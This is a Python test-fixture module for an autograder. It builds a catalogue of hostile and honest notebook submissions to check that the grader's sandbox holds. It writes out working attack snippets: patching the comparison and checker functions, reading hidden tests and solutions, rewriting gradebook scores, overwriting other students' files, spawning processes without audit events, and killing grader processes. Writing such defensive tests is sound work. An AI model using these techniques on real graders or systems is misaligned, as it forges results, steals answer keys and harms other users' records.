"""Hostile and broken submissions of ``01_gradient_descent``, with honest ones to grade beside them.

Each ``Entry`` builds one student's notebook from the course's ``release/`` notebook (the stubs) or from the
solutions in ``source/``, and says what the submission may score and which statuses describe it:

- ``honest_points``: what the honest work in the notebook earns (0 for an attack on the stubs or on the
  ``DECOY`` answers, 10 for the full solution, 2 for the partial one). A number, or a callable that computes it
  with the trusted checks in-process (for functions that earn a little on their own).
- ``expected_statuses``: the acceptable statuses (strings, so that statuses that the grader does not know yet
  can be named: ``sandbox_violation`` and ``output_limit``).

Attacks are as strong as an insider can make them: the test knows the real course root and the checkout of
the ``autograder`` package and embeds their absolute paths in the hostile code. Every resource attack is
bounded by itself (at most 200 processes, 8 GiB of memory, 2 GiB of output or file growth, loops that end
after a deadline), so that a missing defence cannot harm the machine; processes and files they create carry
``Context.token`` so that the test finds them.
"""

from __future__ import annotations

import functools
import textwrap
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat
from nbformat import NotebookNode

from autograder.grading.demo import fill, solution_snippets
from autograder.nbgrader_ext import last_tracked_cell

ASSIGNMENT = "01_gradient_descent"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
TOTAL = 10.0
BYSTANDER = "zz_bystander"
"""A student of the course who is not in the batch: their submitted and autograded files and their gradebook
entry exist before the batch and must not change."""

GRADED, TIMEOUT, MEMORY, KERNEL_DIED, TESTS_MODIFIED = "graded", "timeout", "memory_limit", "kernel_died", "tests_modified"
SANDBOX, OUTPUT = "sandbox_violation", "output_limit"

STORM_PROCESSES = 200
STORM_SLEEP = "30"
MEMORY_CHUNK_MB = 256
MEMORY_MAX_GB = 8
OUTPUT_MAX_GB = 2


@dataclass(frozen=True)
class Context:
    """What the builders need to know about the course under attack.

    Attributes:
        course: the course root (absolute): ``source/``, ``release/``, ``gradebook.db``, ``submitted/``.
        repo: the checkout whose ``autograder`` package the kernels import.
        token: a unique marker, put in the environment of spawned processes and in the names of planted files.
        outside: a folder outside the course and the grader's work area that no submission may write to.
        home: the HOME of the grading command.
    """

    course: Path
    repo: Path
    token: str
    outside: Path
    home: Path

    @property
    def release(self) -> Path:
        return self.course / "release" / ASSIGNMENT / NOTEBOOK

    @property
    def source(self) -> Path:
        return self.course / "source" / ASSIGNMENT / NOTEBOOK


@dataclass(frozen=True)
class Entry:
    """One submission of the batch (its name is the student id)."""

    name: str
    build: Callable[[Context], NotebookNode]
    honest_points: float | Callable[[], float]
    expected_statuses: frozenset[str]
    what: str
    hostile: bool = True
    reason_words: tuple[str, ...] = ()
    """For a ``sandbox_violation`` the reason names the refused action, for a ``kernel_died`` how the kernel ended,
    with one of these words."""

    def honest(self) -> float:
        return self.honest_points() if callable(self.honest_points) else float(self.honest_points)


# ---------------------------------------------------------------- notebooks


def stubs(ctx: Context) -> NotebookNode:
    """The release notebook untouched: every blank raises NotImplementedError."""
    return nbformat.read(ctx.release, as_version=4)


@functools.lru_cache(maxsize=None)
def _snippets(source: Path) -> tuple[tuple[str, str], ...]:
    return tuple(solution_snippets(source).items())


def solutions(ctx: Context) -> dict[str, str]:
    """grade_id -> the solved answer cell, from the course's ``source/``."""
    return dict(_snippets(ctx.source))


def solved(ctx: Context) -> NotebookNode:
    return fill(ctx.release, solutions(ctx))


def partial(ctx: Context) -> NotebookNode:
    """Only ``mse`` solved (2 points)."""
    return fill(ctx.release, {"mse": solutions(ctx)["mse"]})


DECOY = {
    "mse": '''def mse(preds, acts):
    return ((preds - acts) ** 2).sum()''',
    "gd_step": '''def gd_step(params, lr):
    with torch.no_grad():
        params += lr * params.grad
    params.grad.zero_()''',
    "double_relu": '''def double_relu(m1, b1, m2, b2, x):
    return rectified_linear(m1, b1, x) - rectified_linear(m2, b2, x)''',
    "apply_step": '''def apply_step(params, time, speed, lr=1e-5):
    preds = f(time, params)
    loss = ((preds - speed) ** 2).mean()
    loss.backward()
    params.data += lr * params.grad.data
    params.grad = None
    return preds''',
}
"""Wrong answers with the right shapes: ``mse`` sums, ``gd_step`` and ``apply_step`` step uphill, ``double_relu``
subtracts. Each fails its visible test (so each test cell scores 0 honestly); those of ``gd_step``,
``double_relu`` and ``apply_step`` fail only through ``torch.allclose``, so an attack on the comparisons would
turn them into passes. ``mae`` and ``fit_quadratic`` stay stubs."""


def decoy(ctx: Context) -> NotebookNode:
    return fill(ctx.release, DECOY)


def code_cell(source: str) -> NotebookNode:
    return nbformat.v4.new_code_cell(textwrap.dedent(source).strip("\n"))


def inject(nb: NotebookNode, source: str, after: int = 1) -> NotebookNode:
    """``nb`` with a new code cell after cell ``after`` (cell 1 imports torch; answer cells come later)."""
    nb.cells.insert(after + 1, code_cell(source))
    return nb


def grade_cell(nb: NotebookNode, grade_id: str) -> NotebookNode:
    return next(cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def sub(code: str, **values: object) -> str:
    """``code`` with ``{{name}}`` replaced by ``repr(value)`` (other braces are left alone)."""
    code = textwrap.dedent(code)
    for name, value in values.items():
        code = code.replace("{{" + name + "}}", repr(str(value) if isinstance(value, Path) else value))
    return code


# ---------------------------------------------------------------- hostile code


PATCH_ALLCLOSE = '''
import torch
torch.allclose = lambda *args, **kwargs: True
torch.Tensor.allclose = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
'''

PATCH_ASSERT_CLOSE = '''
import torch, torch.testing
torch.testing.assert_close = lambda *args, **kwargs: None
torch.testing.assert_allclose = lambda *args, **kwargs: None
'''

PATCH_PRINT = '''
import builtins, sys
def _print(*args, **kwargs):
    sys.stdout.write("All checks passed 10/10\\n")
builtins.print = _print
print("anything")
'''

PATCH_ASSERTION_ERROR = '''
import builtins
class AssertionError(BaseException):
    """raised by the checks instead of the real AssertionError"""
builtins.AssertionError = AssertionError
'''

PATCH_SHOWTRACEBACK = '''
from IPython import get_ipython
_shell = get_ipython()
_quiet = lambda *args, **kwargs: None
_shell.showtraceback = _quiet
_shell._showtraceback = _quiet
_shell.showsyntaxerror = _quiet
type(_shell).showtraceback = lambda self, *args, **kwargs: None
type(_shell)._showtraceback = lambda self, *args, **kwargs: None
'''

PATCH_CHECK = '''
import sys, torch
import autograder.checks
def check(blank, points, **objects):
    return float(points)
autograder.checks.check = check
for _name, _module in list(sys.modules.items()):
    if _name.startswith("autograder") and hasattr(_module, "check"):
        _module.check = check
torch.allclose = lambda *args, **kwargs: True
'''

REPLACE_CHECK_MODULE = '''
import sys, types
_fake = types.ModuleType("autograder.checks")
_fake.check = lambda blank, points, **objects: float(points)
sys.modules["autograder.checks"] = _fake
'''

IMPORT_REFERENCE = {
    blank: f"from autograder.reference.gradient_descent import {blank}"
    for blank in ("mse", "mae", "gd_step", "fit_quadratic", "double_relu", "apply_step")
}

READ_SOURCE = '''
import json, re
def _steal(blank):
    with open({{notebook}}) as file:
        cells = json.load(file)["cells"]
    for cell in cells:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == blank:
            code = "".join(cell["source"])
            exec(re.sub(r"[ \\t]*### (BEGIN|END) SOLUTION\\n?", "", code), globals())
            return
'''

READ_REFERENCE_FILE = '''
_reference = {}
with open({{reference}}) as file:
    exec(compile(file.read(), "reference", "exec"), _reference)
'''

READ_GRADEBOOK = '''
import sqlite3
with open({{gradebook}}, "rb") as file:
    _raw = file.read()
print("gradebook bytes:", len(_raw))
_db = sqlite3.connect({{gradebook}})
_hidden = [row[0] for row in _db.execute("SELECT source FROM source_cell WHERE source LIKE '%HIDDEN%'")]
_db.close()
print("hidden tests:", _hidden[:1])
'''

FAKE_REPORT = {
    "blank": "mse", "points": 2.0, "score": 2.0, "error": "",
    "results": [{"name": "gives the right number on the lesson's small example", "passed": True, "message": ""}],
    "artifacts": {},
}

FAKE_SCORE_PRINT = {
    "mse": '''def mse(preds, acts):
    from IPython.display import display
    print("mse: all checks passed (5/5), 2/2 points")
    display({"application/vnd.autograder.report+json": %r}, raw=True)
    return torch.tensor(2.0)
print("Total score: 10/10 - All checks passed")''' % (FAKE_REPORT,),
}

FLOAT_ANSWER = {
    blank: '''def %s(*args, **kwargs):
    return 2.0
2.0''' % blank
    for blank in ("mse", "mae", "gd_step", "fit_quadratic", "double_relu", "apply_step")
}

SYS_EXIT = '''
import sys
sys.exit("leaving early")
'''

OS_EXIT = {
    "mse": '''def mse(preds, acts):
    import os
    os._exit(0)''',
}

KILL_KERNEL = '''
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
'''

ONLY_THE_VISIBLE_EXAMPLES = '''def mse(preds, acts):
    known = {((1.0, 2.0, 3.0), (1.0, 3.0, 5.0)): 5 / 3, ((0.0,) * 4, (1.0,) * 4): 1.0}
    key = (tuple(preds.detach().flatten().tolist()), tuple(acts.detach().flatten().tolist()))
    if key in known:
        return torch.tensor(known[key], dtype=preds.dtype, device=preds.device)
    raise %s'''
"""An ``mse`` right on the visible examples (the first hidden check uses the same numbers) that raises on any
other input: the honest twin raises ValueError, the attacks KeyboardInterrupt or SystemExit, hoping that an
interrupted check run counts only the check that passed."""

INFINITE_LOOP = '''
import time
_deadline = time.monotonic() + 300  # bounded: interrupted at the cell timeout, else gone after 5 minutes
while time.monotonic() < _deadline:
    pass
'''

PROCESS_STORM = '''
import subprocess
_storm = []
for _ in range({{count}}):  # bounded: at most 200 processes, each sleeping 30 s
    _storm.append(subprocess.Popen(
        ["sleep", {{seconds}}], env={"PATH": "/usr/bin:/bin", "HOSTILE_TOKEN": {{token}}},
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    ))
print(len(_storm), "processes")
'''

MEMORY_HOG = '''
import time
_hog = []
for _ in range({{chunks}}):  # bounded: 256 MiB at a time, 8 GiB at most
    _hog.append(b"\\x01" * ({{chunk_mb}} * 2**20))  # filled, so really resident
    time.sleep(0.05)
print(len(_hog) * {{chunk_mb}}, "MiB held")
'''

ENDLESS_OUTPUT = '''
import sys
_line = "x" * (2**20 - 1) + "\\n"
for _ in range({{lines}}):  # bounded: 1 MiB at a time, 2 GiB at most
    sys.stdout.write(_line)
    sys.stdout.flush()
'''

GROWING_FILE = '''
_chunk = b"\\0" * (64 * 2**20)
with open("grow.bin", "wb") as _file:
    for _ in range({{chunks}}):  # bounded: 64 MiB at a time, 2 GiB at most
        _file.write(_chunk)
        _file.flush()
'''

SPAWN = '''
import subprocess
print(subprocess.run(["id"], capture_output=True, text=True).stdout)
'''

SOCKETS = '''
import socket
_server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
_server.bind(("127.0.0.1", 0))
_server.listen(1)
_client = socket.create_connection(_server.getsockname(), timeout=5)
_peer, _ = _server.accept()
_client.sendall(b"hello")
print("received", _peer.recv(5))
for _socket in (_client, _peer, _server):
    _socket.close()
'''

WRITE_GRADEBOOK = '''
import sqlite3
_db = sqlite3.connect({{gradebook}}, timeout=5)
_db.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)")
_db.commit()
_db.close()
'''

WRITE_AUTOGRADED = '''
import pathlib
_folder = pathlib.Path({{autograded}})
(_folder / {{planted}}).write_text("forged")
(_folder / "01_gradient_descent.ipynb").write_text("{}")
'''

OVERWRITE_SUBMITTED = '''
import pathlib
_forged = {{notebook}}
for _student in {{victims}}:
    _path = pathlib.Path({{submitted}}) / _student / "01_gradient_descent" / "01_gradient_descent.ipynb"
    _path.write_text(_forged)
    (_path.parent / {{planted}}).write_text("forged")
'''

WRITE_OUTSIDE = '''
import os, pathlib
pathlib.Path({{home}}, {{planted}}).write_text("planted in HOME")
pathlib.Path({{outside}}, {{planted}}).write_text("planted outside")
pathlib.Path(os.path.expanduser("~"), {{planted}} + ".expanded").write_text("planted in ~")
'''

ENV_PROBE = {
    "mse": '''def mse(preds, acts):
    import os, sys
    print("ENVIRONMENT", sorted(os.environ.items()))
    print("HOME", os.path.expanduser("~"), "CWD", os.getcwd(), "PATH", sys.path)
    raise NotImplementedError("mse")''',
}


NATIVE_READ = '''
import numpy, torch
_stolen = []
for _path in {{paths}}:
    for _how, _read in (
        ("torch.from_file", lambda p: bytes(torch.from_file(p, size=200, dtype=torch.uint8).tolist())),
        ("numpy.fromfile", lambda p: numpy.fromfile(p, dtype=numpy.uint8, count=200).tobytes()),
        ("numpy.memmap", lambda p: numpy.memmap(p, dtype=numpy.uint8, mode="r", shape=(200,)).tobytes()),
    ):
        try:
            _stolen.append(_read(_path))
            print(_how, _path, _stolen[-1].decode("latin-1"))
        except BaseException as _error:  # noqa: BLE001 - every way is tried
            print(_how, _path, "failed:", type(_error).__name__, _error)
'''

NATIVE_WRITE = '''
import torch
for _path in {{victims}}:
    try:
        _mapped = torch.from_file(_path, shared=True, size=16, dtype=torch.uint8)
        _mapped[:8] = torch.tensor(list(b"HOSTILE!"), dtype=torch.uint8)
        print("overwrote", _path)
    except BaseException as _error:  # noqa: BLE001
        print("could not overwrite", _path, type(_error).__name__, _error)
try:
    torch.save(torch.zeros(3), {{planted}})
    print("planted", {{planted}})
except BaseException as _error:  # noqa: BLE001
    print("could not plant", type(_error).__name__, _error)
'''

NATIVE_CONNECT = '''
import datetime, torch.distributed
try:  # a TCP connect from C++ (no socket module, no audit event)
    _store = torch.distributed.TCPStore("127.0.0.1", {{port}}, 2, False, timeout=datetime.timedelta(seconds=5))
    print("connected to the listener")
except BaseException as _error:  # noqa: BLE001
    print("no connection:", type(_error).__name__, _error)
'''

POSIX_SPAWN_BOMB = '''
import os
_born = []
for _ in range({{count}}):  # bounded: at most 200 processes, each sleeping 30 s
    _born.append(os.posix_spawn("/bin/sleep", ["sleep", {{seconds}}], {"HOSTILE_TOKEN": {{token}}}, setsid=True))
print(len(_born), "processes")
'''

OUTLIVE_KERNEL = '''
import os
os.posix_spawn("/bin/sh", ["sh", "-c", "(setsid sleep 600 &) ; sleep 600"], {"HOSTILE_TOKEN": {{token}}, "PATH": "/usr/bin:/bin"})
print("left a process behind")
'''

UNAUDITED_SPAWN = '''
import _posixsubprocess, os
_read, _write = os.pipe()
# Python 3.11 raises no audit event here (subprocess.Popen does, before it calls this)
_posixsubprocess.fork_exec(
    [b"sh", b"-c", b"(setsid sleep 600 &) ; sleep 600"], [b"/bin/sh"], True, (_write,), None,
    [b"HOSTILE_TOKEN=" + {{token}}.encode(), b"PATH=/usr/bin:/bin"], -1, -1, -1, -1, -1, -1, _read, _write, True, True,
    -1, None, None, None, -1, None, False)
print("left a process behind, unaudited")
'''

UNAUDITED_KILL = '''
import os, signal
_killed = []
for _name in os.listdir("/proc"):  # the grader's processes: the command, its workers, checkers and fork servers
    if _name.isdigit() and int(_name) != os.getpid():
        try:
            with open(f"/proc/{_name}/cmdline", "rb") as _file:
                if b"autograder" not in _file.read():
                    continue
            signal.pidfd_send_signal(os.pidfd_open(int(_name)), signal.SIGKILL)  # no audit event in Python 3.11
            _killed.append(int(_name))
        except OSError:
            pass
print("killed", _killed)
'''


_listener: dict = {}


def loopback_listener() -> dict:
    """A TCP listener on 127.0.0.1 in the grader's network namespace, started once: ``{"port", "connections"}``."""
    if not _listener:
        import socket
        import threading

        server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        server.bind(("127.0.0.1", 0))
        server.listen(16)
        _listener.update(port=server.getsockname()[1], connections=[])

        def accept() -> None:
            while True:
                connection, peer = server.accept()
                _listener["connections"].append(peer)
                connection.close()

        threading.Thread(target=accept, daemon=True).start()
    return _listener


def native_read_paths(ctx: Context) -> list[str]:
    return [str(ctx.repo / "autograder" / "reference" / "gradient_descent.py"), str(ctx.course / "gradebook.db"), str(ctx.source)]


def native_write_victims(ctx: Context) -> list[str]:
    return [str(ctx.release), str(ctx.course / "gradebook.db"), str(ctx.course / "submitted" / BYSTANDER / ASSIGNMENT / NOTEBOOK)]


# ---------------------------------------------------------------- builders


def injected(base: Callable[[Context], NotebookNode], code: str, **values: Callable[[Context], object]) -> Callable[[Context], NotebookNode]:
    """A builder: ``base`` with ``code`` in a new cell after the imports; ``values`` fill its ``{{name}}``s."""

    def build(ctx: Context) -> NotebookNode:
        return inject(base(ctx), sub(code, **{name: value(ctx) for name, value in values.items()}))

    return build


def before_the_last_test(base: Callable[[Context], NotebookNode], code: str, **values: Callable[[Context], object]) -> Callable[[Context], NotebookNode]:
    """A builder: ``base`` with ``code`` in a new cell just before its last test cell, the last cell grading runs
    (those after it are not run), so that what the code starts outlives the rest of the notebook."""

    def build(ctx: Context) -> NotebookNode:
        nb = base(ctx)
        return inject(nb, sub(code, **{name: value(ctx) for name, value in values.items()}), after=last_tracked_cell(nb) - 1)

    return build


def answered(answers: Callable[[Context], dict[str, str]], prelude: str = "", **values: Callable[[Context], object]) -> Callable[[Context], NotebookNode]:
    """A builder: the release notebook with the answer cells of ``answers``, and ``prelude`` after the imports."""

    def build(ctx: Context) -> NotebookNode:
        nb = fill(ctx.release, answers(ctx))
        if prelude:
            inject(nb, sub(prelude, **{name: value(ctx) for name, value in values.items()}))
        return nb

    return build


def edited_test(ctx: Context) -> NotebookNode:
    nb = stubs(ctx)
    grade_cell(nb, "test_mse").source = 'print("All checks passed")\n2.0'
    return nb


def deleted_tests(ctx: Context) -> NotebookNode:
    nb = stubs(ctx)
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in ("test_mse", "test_mae")]
    return nb


def more_points(ctx: Context) -> NotebookNode:
    nb = solved(ctx)
    grade_cell(nb, "test_mse").metadata.nbgrader.points = 100
    return nb


def renamed_test(ctx: Context) -> NotebookNode:
    nb = stubs(ctx)
    cell = grade_cell(nb, "test_mse")
    cell.metadata.nbgrader.grade_id = "test_bonus"
    cell.metadata.nbgrader.points = 100
    cell.source = "100.0"
    return nb


MANY_CELLS = 10_000


def many_cells(ctx: Context) -> NotebookNode:
    """The stubs with ``MANY_CELLS`` code cells before the answer cells (after the last graded cell they would not run)."""
    nb = stubs(ctx)
    nb.cells[2:2] = [nbformat.v4.new_code_cell(f"_c{i} = {i}") for i in range(MANY_CELLS)]
    return nb


def _autograded_of(student: str) -> Callable[[Context], Path]:
    return lambda ctx: ctx.course / "autograded" / student / ASSIGNMENT


def _planted(ctx: Context) -> str:
    return f"HOSTILE-{ctx.token}.txt"


def honest_twin_score(blank: str, points: float, source: str) -> Callable[[], float]:
    """What ``source`` (defining ``blank``) earns from the trusted checks, run here in-process."""

    @functools.lru_cache(maxsize=None)
    def score() -> float:
        import torch

        from autograder.checks import run_checks

        namespace: dict = {"torch": torch}
        exec(source, namespace)
        return run_checks(blank, points, {blank: namespace[blank]}, device="cpu").score

    return score


def _steal_all(ctx: Context) -> dict[str, str]:
    return {blank: f'_steal("{blank}")' for blank in solutions(ctx)}


def _from_reference_file(ctx: Context) -> dict[str, str]:
    return {blank: f'{blank} = _reference["{blank}"]' for blank in solutions(ctx)}


MONKEYPATCH = frozenset({GRADED, SANDBOX})
"""Patching objects in the kernel refuses no action: graded (with the checker's score) or reported."""

READS = ("open", "read", "course", "source", "gradebook", "autograder", "import")
WRITES = ("open", "write", "course", "gradebook", "autograded", "submitted", "outside")
SPAWNS = ("subprocess", "spawn", "fork", "exec", "system", "process")


def catalogue() -> list[Entry]:
    """Every submission of the adversarial batch, honest ones first."""
    twin = honest_twin_score("mse", 2, ONLY_THE_VISIBLE_EXAMPLES % "ValueError('unknown input')")
    return [
        # -- honest
        Entry("honest_full", solved, 10, frozenset({GRADED}), "every blank solved", hostile=False),
        Entry("honest_partial", partial, 2, frozenset({GRADED}), "only mse solved", hostile=False),
        Entry("honest_wrong", decoy, 0, frozenset({GRADED}), "the DECOY answers, no attack: what the patch attacks earn honestly",
              hostile=False),
        # -- monkeypatching what the checks rely on
        Entry("patch_allclose", injected(decoy, PATCH_ALLCLOSE), 0, MONKEYPATCH, "torch.allclose/isclose always True"),
        Entry("patch_assert_close", injected(decoy, PATCH_ASSERT_CLOSE), 0, MONKEYPATCH, "torch.testing.assert_close a no-op"),
        Entry("patch_print", injected(decoy, PATCH_PRINT), 0, MONKEYPATCH, "builtins.print prints 'All checks passed 10/10'"),
        Entry("patch_assertion_error", injected(stubs, PATCH_ASSERTION_ERROR), 0, MONKEYPATCH, "builtins.AssertionError replaced"),
        Entry("patch_showtraceback", injected(stubs, PATCH_SHOWTRACEBACK), 0, MONKEYPATCH,
              "IPython showtraceback silenced, so errors would leave no error output"),
        Entry("patch_check", injected(decoy, PATCH_CHECK), 0, frozenset({SANDBOX}),
              "import autograder.checks; check() returns full points; allclose True", reason_words=("import", "autograder")),
        Entry("replace_check_module", injected(decoy, PATCH_ALLCLOSE + REPLACE_CHECK_MODULE), 0, frozenset({SANDBOX}),
              "allclose True, and sys.modules['autograder.checks'] replaced by a module whose check() returns full points",
              reason_words=("without asking the checker",)),
        # -- the reference, hidden tests and course files
        Entry("import_reference", answered(lambda ctx: dict(IMPORT_REFERENCE)), 0, frozenset({SANDBOX}),
              "answers imported from autograder.reference", reason_words=("import", "autograder")),
        Entry("read_source", answered(_steal_all, READ_SOURCE, notebook=lambda ctx: ctx.source), 0, frozenset({SANDBOX}),
              "solutions read from the course's source/ and exec'd", reason_words=READS),
        Entry("read_reference_file", answered(_from_reference_file, READ_REFERENCE_FILE,
                                              reference=lambda ctx: ctx.repo / "autograder" / "reference" / "gradient_descent.py"),
              0, frozenset({SANDBOX}), "the reference module's file read from disk and exec'd", reason_words=READS),
        Entry("read_gradebook", injected(stubs, READ_GRADEBOOK, gradebook=lambda ctx: ctx.course / "gradebook.db"), 0,
              frozenset({SANDBOX}), "gradebook.db read (it holds the hidden tests)", reason_words=READS),
        # -- fake scores, floats, exits
        Entry("fake_score_print", answered(lambda ctx: dict(FAKE_SCORE_PRINT)), 0, frozenset({GRADED}),
              "prints fake scores and displays a forged check report from inside the test cell"),
        Entry("float_answer_cell", answered(lambda ctx: dict(FLOAT_ANSWER)), 0, frozenset({GRADED}), "every answer cell returns 2.0"),
        Entry("sys_exit", injected(solved, SYS_EXIT), 10, frozenset({GRADED}), "sys.exit() in a cell of a full solution"),
        Entry("os_exit", answered(lambda ctx: dict(OS_EXIT)), 0, frozenset({KERNEL_DIED}), "mse calls os._exit(0)",
              reason_words=("exited with code 0",)),
        Entry("kill_kernel", injected(stubs, KILL_KERNEL), 0, frozenset({KERNEL_DIED, SANDBOX}), "os.kill(os.getpid(), SIGKILL)",
              reason_words=("kill", "signal")),
        Entry("keyboard_interrupt", answered(lambda ctx: {"mse": ONLY_THE_VISIBLE_EXAMPLES % "KeyboardInterrupt"}), twin,
              frozenset({GRADED}), "mse raises KeyboardInterrupt once the checks leave the visible examples"),
        Entry("system_exit", answered(lambda ctx: {"mse": ONLY_THE_VISIBLE_EXAMPLES % "SystemExit(0)"}), twin,
              frozenset({GRADED}), "mse raises SystemExit once the checks leave the visible examples"),
        # -- resources
        Entry("infinite_loop", injected(stubs, INFINITE_LOOP), 0, frozenset({TIMEOUT}), "while True: pass"),
        Entry("process_storm", before_the_last_test(stubs, PROCESS_STORM, count=lambda ctx: STORM_PROCESSES, seconds=lambda ctx: STORM_SLEEP,
                                                    token=lambda ctx: ctx.token),
              0, frozenset({SANDBOX}), f"{STORM_PROCESSES} x sleep {STORM_SLEEP} in new sessions, just before the last test cell",
              reason_words=SPAWNS),
        Entry("memory_hog", injected(stubs, MEMORY_HOG, chunks=lambda ctx: MEMORY_MAX_GB * 1024 // MEMORY_CHUNK_MB,
                                     chunk_mb=lambda ctx: MEMORY_CHUNK_MB),
              0, frozenset({MEMORY}), f"{MEMORY_CHUNK_MB} MiB chunks up to {MEMORY_MAX_GB} GiB"),
        Entry("endless_output", injected(stubs, ENDLESS_OUTPUT, lines=lambda ctx: OUTPUT_MAX_GB * 1024), 0, frozenset({OUTPUT}),
              f"prints 1 MiB lines up to {OUTPUT_MAX_GB} GiB"),
        Entry("growing_file", injected(stubs, GROWING_FILE, chunks=lambda ctx: OUTPUT_MAX_GB * 16), 0, frozenset({OUTPUT}),
              f"grows a file in its folder up to {OUTPUT_MAX_GB} GiB"),
        Entry("spawn_subprocess", injected(stubs, SPAWN), 0, frozenset({SANDBOX}), "subprocess.run(['id'])", reason_words=SPAWNS),
        Entry("socket_loopback", injected(stubs, SOCKETS), 0, frozenset({SANDBOX}), "a TCP server and client on 127.0.0.1",
              reason_words=("socket", "bind", "connect", "network")),
        # -- writing where it must not
        Entry("write_gradebook", injected(stubs, WRITE_GRADEBOOK, gradebook=lambda ctx: ctx.course / "gradebook.db"), 0,
              frozenset({SANDBOX}), "sqlite UPDATE: every grade in the course's gradebook set to full points", reason_words=WRITES + ("sqlite",)),
        Entry("write_autograded", injected(stubs, WRITE_AUTOGRADED, autograded=_autograded_of(BYSTANDER), planted=_planted), 0,
              frozenset({SANDBOX}), "overwrites another student's autograded notebook", reason_words=WRITES),
        Entry("aa_overwrite_submitted", injected(stubs, OVERWRITE_SUBMITTED, notebook=lambda ctx: nbformat.writes(solved(ctx)),
                                                 victims=lambda ctx: [BYSTANDER, "honest_partial"],
                                                 submitted=lambda ctx: ctx.course / "submitted", planted=_planted),
              0, frozenset({SANDBOX}), "replaces other students' submitted notebooks with the solution (graded first)", reason_words=WRITES),
        Entry("write_outside", injected(stubs, WRITE_OUTSIDE, home=lambda ctx: ctx.home, outside=lambda ctx: ctx.outside, planted=_planted),
              0, frozenset({SANDBOX}), "plants files in HOME and in a folder outside the course", reason_words=WRITES + ("home",)),
        # -- native code, which no audit event sees: stopped by the namespace sandbox
        Entry("native_read", injected(stubs, NATIVE_READ, paths=native_read_paths), 0,
              frozenset({GRADED, SANDBOX}), "torch.from_file, numpy.fromfile and numpy.memmap read the reference, the gradebook and source/"),
        Entry("native_write", injected(stubs, NATIVE_WRITE, victims=native_write_victims,
                                       planted=lambda ctx: str(ctx.course / "source" / ASSIGNMENT / _planted(ctx))),
              0, frozenset({GRADED, SANDBOX}), "torch.from_file(shared=True) overwrites course files; torch.save plants one in source/"),
        Entry("native_connect", injected(stubs, NATIVE_CONNECT, port=lambda ctx: loopback_listener()["port"]), 0,
              frozenset({GRADED, SANDBOX}), "a TCP connect from C++ (torch.distributed.TCPStore) to a listener on the grader's 127.0.0.1"),
        Entry("posix_spawn_bomb", before_the_last_test(stubs, POSIX_SPAWN_BOMB, count=lambda ctx: STORM_PROCESSES,
                                                       seconds=lambda ctx: STORM_SLEEP, token=lambda ctx: ctx.token),
              0, frozenset({SANDBOX}), f"{STORM_PROCESSES} x os.posix_spawn(sleep) in new sessions", reason_words=SPAWNS),
        Entry("outlive_kernel", before_the_last_test(stubs, OUTLIVE_KERNEL, token=lambda ctx: ctx.token), 0, frozenset({SANDBOX}),
              "a detached sleep 600 started just before the last test cell, to outlive the kernel", reason_words=SPAWNS),
        # -- Python calls that raise no audit event (Python 3.11): the namespace sandbox holds them
        Entry("unaudited_spawn", before_the_last_test(stubs, UNAUDITED_SPAWN, token=lambda ctx: ctx.token), 0,
              frozenset({GRADED, SANDBOX}), "a detached sleep 600 started through _posixsubprocess.fork_exec, to outlive the kernel"),
        Entry("unaudited_kill", injected(stubs, UNAUDITED_KILL), 0, frozenset({GRADED, SANDBOX, KERNEL_DIED}),
              "SIGKILL through pidfd_send_signal to every process whose command line names autograder"),
        Entry("env_probe", answered(lambda ctx: dict(ENV_PROBE)), 0, frozenset({GRADED}), "prints the environment from inside a test cell"),
        # -- test cells and metadata
        Entry("edit_test_cell", edited_test, 0, frozenset({TESTS_MODIFIED}), "test_mse replaced by print + 2.0"),
        Entry("delete_test_cells", deleted_tests, 0, frozenset({TESTS_MODIFIED}), "test_mse and test_mae deleted"),
        Entry("change_points", more_points, 10, frozenset({TESTS_MODIFIED}), "full solution, test_mse worth 100 points"),
        Entry("change_grade_id", renamed_test, 0, frozenset({TESTS_MODIFIED}), "test_mse renamed test_bonus, 100 points, source 100.0"),
        Entry("many_cells", many_cells, 0, frozenset({GRADED}), f"the stubs and {MANY_CELLS:,} small code cells"),
    ]


def entries_by_name() -> dict[str, Entry]:
    return {entry.name: entry for entry in catalogue()}


def write_batch(ctx: Context, into: Path, entries: list[Entry] | None = None) -> dict[str, Path]:
    """Write each entry's notebook to ``into/<name>/01_gradient_descent/01_gradient_descent.ipynb``."""
    written = {}
    for entry in entries or catalogue():
        target = into / entry.name / ASSIGNMENT / NOTEBOOK
        target.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(entry.build(ctx), target)
        written[entry.name] = target
    return written
